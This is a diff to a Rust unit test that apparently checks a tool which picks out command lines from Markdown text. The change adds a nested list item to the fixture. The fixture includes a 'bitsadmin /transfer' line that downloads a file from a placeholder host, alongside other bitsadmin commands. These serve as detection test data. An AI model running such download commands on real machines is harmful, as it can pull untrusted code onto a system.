@@ -195,7 +195,7 @@ fn lines_of_running_text_may_be_commands() {
     check(&[
         (
             "a.md",
-            "Use:\nbitsadmin /transfer j https://h/x C:\\x\n\n- cmd /C bitsadmin /list /allusers\n- C:\\>bitsadmin /reset\n",
+            "Use:\nbitsadmin /transfer j https://h/x C:\\x\n\n- cmd /C bitsadmin /list /allusers\n  - all of them\n- C:\\>bitsadmin /reset\n",
             &[
                 ("?", Line, "bitsadmin /transfer j https://h/x C:\\x"),
                 ("?", Line, "cmd /C bitsadmin /list /allusers"),
